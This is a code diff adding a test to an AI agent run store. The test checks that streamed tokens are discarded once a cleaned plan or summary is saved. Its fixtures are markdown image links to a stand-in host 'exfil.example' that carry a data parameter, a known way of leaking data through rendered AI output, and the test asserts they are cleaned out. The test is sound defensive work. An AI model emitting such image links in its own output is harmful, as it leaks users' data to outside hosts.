@@ -169,3 +169,22 @@ def test_every_program_error_pickles_with_its_message() -> None:
             err = cls(*([f"{name} message"] + ["x"] * (len(params) - 1)))
             again = pickle.loads(pickle.dumps(err))
             assert type(again) is cls and str(again) == f"{name} message"
+
+
+async def test_streamed_text_is_replaced_by_the_cleaned_plan_and_summary_events() -> None:
+    """A stream cannot be cleaned of images while it is written: once the plan (or the summary)
+    is stored, the run's token events are dropped, pending ones too, and numbering goes on."""
+    store = Store(":memory:", commit_interval_s=0.05)
+    run = await store.create_run("x", "u1")
+    await store.append_tokens([(run.id, "plan", '{"goal": "![x](https://exfil.example/p.png?d=1)')])
+    pending = store.append_tokens([(run.id, "plan", '"}')])  # in the same group commit as the plan
+    plan = Plan(goal="x", steps=[PlanStep(id="s1", agent="leads", instruction="find")])
+    await asyncio.gather(pending, store.enqueue_plan(run.id, plan, 3))
+    events = await store.run_events(run.id)
+    assert [e.kind for e in events if e.kind == "token"] == [] and any(e.kind == "plan" for e in events)
+    assert "exfil" not in str([e.model_dump() for e in events])
+    last = events[-1].seq
+    await store.append_tokens([(run.id, "summary", "All ![](https://exfil.example/s.png) done")])
+    await store.finish_run(run.id, "done", "All done", None)
+    after = await store.run_events(run.id, after=last)
+    assert [e.kind for e in after] == ["summary", "end"] and all(e.seq > last for e in after)
